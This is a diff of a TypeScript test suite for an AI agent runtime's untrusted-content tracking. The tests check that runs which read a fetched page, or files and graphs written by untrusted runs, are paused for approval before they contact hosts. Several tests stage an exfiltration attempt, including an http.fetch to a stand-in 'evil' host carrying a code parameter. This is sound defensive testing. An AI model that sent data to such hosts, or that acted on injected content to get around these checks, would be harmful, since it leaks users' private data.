@@ -66,7 +66,7 @@ describe('a run that reads what an untrusted run wrote', () => {
       const { run } = await world.calls('tidy up', [tool, input], leak(world));
       expect({ tool, status: run.status }).toEqual({ tool, status: 'waiting' });
       expect((await world.asked()).filter((one) => one.run === run.id)).toMatchObject([
-        { tool: 'http.fetch', rule: 'untrusted_content' },
+        { tool: 'http.fetch', rule: 'unnamed_host' },
       ]);
     }
     expect(world.leaked).toEqual([]);
@@ -101,7 +101,7 @@ describe('a run that reads what an untrusted run wrote', () => {
     );
   });
 
-  it('does not count the file any more once a trusted run has overwritten it, or a person has edited it', async () => {
+  it('does not count the file any more once a trusted run has overwritten it', async () => {
     const world = await withNotes();
     await world.calls('write', ['files.write', { path: 'notes.md', content: 'my own words' }]);
     const clean = await world.calls('read', ['files.read', { path: 'notes.md' }]);
@@ -150,7 +150,7 @@ describe('a run that reads what an untrusted run wrote', () => {
     expect(run.run.status).toBe('waiting');
   });
 
-  it('asks in a graph whose file an untrusted run wrote, even for hosts that the graph names', async () => {
+  it('is not trusted by a graph whose file an untrusted run wrote', async () => {
     const world = await withNotes();
     const fetch = {
       node_id: 'a',
@@ -162,15 +162,16 @@ describe('a run that reads what an untrusted run wrote', () => {
     const graph = JSON.stringify(defineGraph([START, fetch, END], { id: 'sends' }));
     world.put('.oka/graphs/sends.json', graph);
     const trusted = await world.oka.graphs.run({ graph: 'sends', input: {}, patienceMs: 0 } as never);
-    expect(trusted.run.status).toBe('completed');
+    expect(await world.isUntrusted(trusted)).toBe(false);
     await world.calls(
       `read ${world.page}/`,
       ['http.fetch', { url: `${world.page}/` }],
       ['files.write', { path: 'graph.json', content: `${graph}\n` }],
     );
     const run = await world.oka.graphs.run({ graph: 'graph.json', input: {}, patienceMs: 0 } as never);
+    expect(await world.isUntrusted(run)).toBe(true);
     expect(run.run.status).toBe('waiting');
-    expect(world.leaked).toHaveLength(1);
+    expect(world.leaked).toEqual([]);
   });
 
   it('says why it is untrusted, and what follows', async () => {
@@ -180,7 +181,7 @@ describe('a run that reads what an untrusted run wrote', () => {
     expect(untrusted?.sources).toMatchObject([
       { step: 2, what: expect.stringMatching(/^the file notes\.md, written by run \w+ \(step \d+\)/) },
     ]);
-    expect(untrusted?.consequences.join('\n')).toContain('private data');
+    expect(untrusted?.consequences.join('\n')).toContain('changes something outside');
     const [first] = (await world.oka.runs.list({ limit: 50 } as never)).slice(-1);
     const about = await world.oka.runs.explain(first?.id as string);
     expect(about.untrusted?.sources[0]?.what).toBe(`the output of http.fetch (${world.page}/)`);
@@ -222,13 +223,13 @@ describe('a program of a trusted run', () => {
     );
   });
 
-  it('does not make them untrusted if it names trusted files only', async () => {
+  it('makes them untrusted also if it names trusted files only, because it can read the others', async () => {
     const world = await withNotes();
     world.put('mine.md', 'mine\n');
     const run = await world.calls('copy it', ['process.run', { argv: ['cp', 'mine.md', 'copy.md'] }]);
     await world.approveAll(run);
     expect(await world.isUntrusted(await world.calls('look', ['files.read', { path: 'copy.md' }]))).toBe(
-      false,
+      true,
     );
   });
 });
@@ -268,7 +269,7 @@ describe('an untrusted run', () => {
     }
   });
 
-  it('does not launder a host by an approved call, nor by a call before it read private data', async () => {
+  it('asks before the first request to a host, whether it has read anything by then or not', async () => {
     const world = await withNotes();
     const first: readonly [string, object] = ['http.fetch', { url: `${world.evil}/first` }];
     const run = await world.calls(
@@ -278,7 +279,7 @@ describe('an untrusted run', () => {
       ['http.fetch', { url: `${world.evil}/?code=0000` }],
     );
     expect(run.run.status).toBe('waiting');
-    expect(world.leaked).toEqual(['/first']);
+    expect(world.leaked).toEqual([]);
   });
 
   it('contacts a host that the policy of the user names, but not by a rule that only names the tool', async () => {
